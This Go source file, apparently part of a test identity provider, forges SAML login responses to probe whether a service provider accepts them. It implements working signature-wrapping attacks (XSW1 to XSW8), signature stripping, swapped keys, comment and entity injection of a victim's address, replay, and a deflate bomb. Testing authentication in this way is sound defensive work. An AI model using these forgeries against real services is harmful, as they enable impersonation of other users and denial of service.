package idp

import (
	"bytes"
	"compress/flate"
	"crypto"
	"fmt"
	"strings"
	"time"

	"github.com/beevik/etree"

	"github.com/platen-fax/platen/protocols/saml"
)

// Attack is a way to cheat a service provider. All but the last group name the
// victim instead of the person who signed in.
type Attack string

// The attacks. XSW1 to XSW8 are numbered as in SAML Raider.
const (
	XSW1 Attack = "xsw1" // evil response, its signature holds the signed original
	XSW2 Attack = "xsw2" // evil response, the signed original lies before the signature
	XSW3 Attack = "xsw3" // evil assertion before the signed one
	XSW4 Attack = "xsw4" // evil assertion around the signed one
	XSW5 Attack = "xsw5" // evil assertion with the signature, original appended
	XSW6 Attack = "xsw6" // evil assertion whose signature holds the original
	XSW7 Attack = "xsw7" // evil assertion in Extensions
	XSW8 Attack = "xsw8" // evil assertion whose signature holds the original in an Object

	TwoAssertions   Attack = "two-assertions"    // both signed
	Unsigned        Attack = "unsigned"          // never signed
	Stripped        Attack = "stripped"          // signed, changed, signature cut out
	Edited          Attack = "edited"            // signed, then changed
	OtherProvider   Attack = "other-provider"    // honest response of another company's provider
	OtherKey        Attack = "other-key"         // our issuer, another company's key, no certificate
	KeyInfoSwapped  Attack = "key-info-swapped"  // attacker's key and certificate
	KeyInfoBorrowed Attack = "key-info-borrowed" // attacker's key, the provider's certificate
	EmptyReference  Attack = "empty-reference"   // the signature refers to the document as a whole
	CommentInName   Attack = "comment-in-name"
	Doctype         Attack = "doctype"
	Entity          Attack = "entity" // an entity spells the victim's address

	// The honest person, wrong terms.
	SHA1              Attack = "sha1"
	WrongAudience     Attack = "wrong-audience"
	NoAudience        Attack = "no-audience"
	WrongRecipient    Attack = "wrong-recipient"
	WrongDestination  Attack = "wrong-destination"
	NoConfirmation    Attack = "no-confirmation"
	Unsolicited       Attack = "unsolicited"          // answers nothing
	WrongInResponseTo Attack = "wrong-in-response-to" // answers an invented request
	WrongConfirms     Attack = "wrong-confirms"       // only the signed part answers another request
	Replay            Attack = "replay"               // the response before, again
	ReplayAssertion   Attack = "replay-assertion"     // an assertion used before in a new response
	TooOld            Attack = "expired"
	ConfirmTooOld     Attack = "confirmation-expired"
	TooYoung          Attack = "not-yet-valid"
	Oversized         Attack = "oversized" // 5 MB
	DeflateBomb       Attack = "deflate-bomb"
)

// Attacks lists all of them.
func Attacks() []Attack {
	return []Attack{
		XSW1, XSW2, XSW3, XSW4, XSW5, XSW6, XSW7, XSW8,
		TwoAssertions, Unsigned, Stripped, Edited, OtherProvider, OtherKey, KeyInfoSwapped, KeyInfoBorrowed, EmptyReference,
		CommentInName, Doctype, Entity, SHA1, WrongAudience, NoAudience, WrongRecipient, WrongDestination, NoConfirmation,
		Unsolicited, WrongInResponseTo, WrongConfirms, Replay, ReplayAssertion, TooOld, ConfirmTooOld, TooYoung, Oversized, DeflateBomb,
	}
}

// forge emits the response of an attack; "" and the first of a replay are
// honest.
func (s *SAML) forge(q saml.Request, u User, a Attack) ([]byte, error) {
	d := s.draft(q, u)
	if strings.HasPrefix(string(a), "xsw") {
		return s.wrap(d, a)
	}
	bad := s.evil(d)
	enemy, err := s.attacker(a)
	if err != nil {
		return nil, err
	}
	switch a {
	case "", Replay:
		return s.honest(d)
	case ReplayAssertion:
		// The caller keeps an assertion alive by asking twice with one request.
		d.assertionID, d.id = "_reused", "_"+token(16)
		return s.honest(d)
	case TwoAssertions:
		return s.two(d, bad)
	case Unsigned:
		bad.signAssert, bad.signResponse = false, false
		return s.honest(bad)
	case Stripped:
		return s.changed(d, func(r *etree.Element) {
			for cut(r) != nil {
			}
		})
	case Edited:
		return s.changed(d, nil)
	case OtherProvider:
		bad.issuer, bad.key = "https://idp.other.example/", enemy
		return s.honest(bad)
	case OtherKey:
		bad.key = &key{private: enemy.private}
		return s.honest(bad)
	case KeyInfoSwapped:
		bad.key = enemy
		return s.honest(bad)
	case KeyInfoBorrowed:
		bad.key = &key{private: enemy.private, cert: d.key.cert}
		return s.honest(bad)
	case EmptyReference:
		return s.replaced(d, `URI="#`+d.assertionID+`"`, `URI=""`, `URI="#`+d.id+`"`)
	case CommentInName:
		return s.replaced(d, "@", "@<!-- x -->")
	case Doctype:
		raw, err := s.honest(d)
		return append([]byte("<!DOCTYPE Response>"), raw...), err
	case Entity:
		raw, err := s.honest(d)
		raw = bytes.ReplaceAll(raw, []byte(">"+u.Email+"<"), []byte(">&who;<"))
		return append([]byte(`<!DOCTYPE Response [<!ENTITY who "`+s.victim+`">]>`), raw...), err
	case Oversized:
		// Blown up after signing: nobody should get as far as the signature.
		return s.replaced(d, d.assertionID, d.assertionID+strings.Repeat("x", 2<<20))
	case DeflateBomb:
		return bomb()
	}
	return s.terms(d, a)
}

// attacker returns the key of the attacks that need one, made at the first.
func (s *SAML) attacker(a Attack) (*key, error) {
	switch a {
	case OtherProvider, OtherKey, KeyInfoSwapped, KeyInfoBorrowed:
	default:
		return nil, nil
	}
	if s.enemy == nil {
		k, err := newKey("Attacker", s.o.Now())
		if err != nil {
			return nil, err
		}
		s.enemy = k
	}
	return s.enemy, nil
}

// terms changes one term of an honest response.
func (s *SAML) terms(d draft, a Attack) ([]byte, error) {
	const hour = time.Hour
	switch a {
	case SHA1:
		d.hash = crypto.SHA1
	case WrongAudience:
		d.audience = "https://other.example/"
	case NoAudience:
		d.audience = ""
	case WrongRecipient:
		d.recipient = "https://other.example/acs"
	case WrongDestination:
		d.destination, d.signResponse = "https://other.example/acs", true
	case NoConfirmation:
		d.noConfirmation = true
	case Unsolicited:
		d.inResponseTo, d.confirms = "", ""
	case WrongInResponseTo:
		d.inResponseTo, d.confirms = "_invented", "_invented"
	case WrongConfirms:
		d.confirms = "_invented"
	case TooOld:
		d.issued, d.from, d.until = d.issued.Add(-3*hour), d.from.Add(-3*hour), d.issued.Add(-hour)
	case ConfirmTooOld:
		d.confirmUntil = d.issued.Add(-hour)
	case TooYoung:
		d.from, d.until, d.confirmUntil = d.from.Add(hour), d.until.Add(2*hour), d.confirmUntil.Add(2*hour)
	default:
		return nil, fmt.Errorf("identity provider: no attack %q", a)
	}
	return s.honest(d)
}

// evil is the draft with the victim in it and IDs of its own.
func (s *SAML) evil(d draft) draft {
	d.id, d.assertionID = "_evil"+token(8), "_evil"+token(8)
	d.email, d.upn = s.victim, s.victim
	if d.format != saml.FormatPersistent {
		d.name = s.victim
	}
	return d
}

func (s *SAML) two(d, bad draft) ([]byte, error) {
	d.signAssert, bad.signAssert = true, true
	first, err := s.assertion(d)
	if err != nil {
		return nil, err
	}
	second, err := s.assertion(bad)
	if err != nil {
		return nil, err
	}
	r, err := s.response(d, first, second)
	if err != nil {
		return nil, err
	}
	return write(r)
}

// changed signs, then puts the victim where the person stood.
func (s *SAML) changed(d draft, more func(*etree.Element)) ([]byte, error) {
	a, err := s.assertion(d)
	if err != nil {
		return nil, err
	}
	r, err := s.response(d, a)
	if err != nil {
		return nil, err
	}
	visit(r, func(e *etree.Element) {
		if len(e.ChildElements()) == 0 && e.Text() == d.email {
			e.SetText(s.victim)
		}
	})
	if more != nil {
		more(r)
	}
	return write(r)
}

// replaced signs, then edits the text: old and also become to.
func (s *SAML) replaced(d draft, old, to string, also ...string) ([]byte, error) {
	raw, err := s.honest(d)
	if err != nil {
		return nil, err
	}
	raw = bytes.ReplaceAll(raw, []byte(old), []byte(to))
	for _, o := range also {
		raw = bytes.ReplaceAll(raw, []byte(o), []byte(to))
	}
	return raw, nil
}

// wrap makes the eight wrapping attacks out of one genuinely signed response or
// assertion.
func (s *SAML) wrap(d draft, a Attack) ([]byte, error) {
	bad := s.evil(d)
	bad.signAssert, bad.signResponse = false, false
	d.signResponse = a == XSW1 || a == XSW2
	d.signAssert = !d.signResponse
	good, err := s.assertion(d)
	if err != nil {
		return nil, err
	}
	forged, err := s.assertion(bad)
	if err != nil {
		return nil, err
	}
	if d.signResponse {
		original, err := s.response(d, good)
		if err != nil {
			return nil, err
		}
		sig := cut(original)
		outer, err := s.response(bad, forged)
		if err != nil {
			return nil, err
		}
		if a == XSW1 {
			sig.AddChild(original)
		} else {
			outer.InsertChildAt(1, original)
		}
		outer.InsertChildAt(1, sig)
		return write(outer)
	}

	order := []*etree.Element{forged}
	switch a {
	case XSW3:
		order = []*etree.Element{forged, good}
	case XSW4:
		forged.AddChild(good)
	case XSW5:
		forged.InsertChildAt(1, cut(good))
		order = []*etree.Element{forged, good}
	case XSW6:
		sig := cut(good)
		sig.AddChild(good)
		forged.InsertChildAt(1, sig)
	case XSW7:
		order = []*etree.Element{good}
	case XSW8:
		sig := cut(good)
		sig.CreateElement(tag(sig.Space, "Object")).AddChild(good)
		forged.InsertChildAt(1, sig)
	}
	r, err := s.response(bad, order...)
	if err != nil {
		return nil, err
	}
	if a == XSW7 {
		e := etree.NewElement(tag(s.m.protocolPrefix, "Extensions"))
		e.AddChild(forged)
		r.InsertChildAt(1, e)
	}
	return write(r)
}

// cut takes the first signature out of a tree and returns it.
func cut(root *etree.Element) *etree.Element {
	var sig *etree.Element
	visit(root, func(e *etree.Element) {
		if sig == nil && e.Tag == "Signature" {
			sig = e
		}
	})
	if sig != nil {
		sig.Parent().RemoveChild(sig)
	}
	return sig
}

func visit(e *etree.Element, f func(*etree.Element)) {
	f(e)
	for _, c := range e.ChildElements() {
		visit(c, f)
	}
}

// bomb is 64 MiB of blanks in 64 KiB, for readers that inflate what the POST
// binding never deflates.
func bomb() ([]byte, error) {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	if err != nil {
		return nil, fmt.Errorf("deflating: %w", err)
	}
	blanks := bytes.Repeat([]byte(" "), 1<<20)
	for range 64 {
		if _, err := w.Write(blanks); err != nil {
			return nil, fmt.Errorf("deflating: %w", err)
		}
	}
	if err := w.Close(); err != nil {
		return nil, fmt.Errorf("deflating: %w", err)
	}
	return b.Bytes(), nil
}
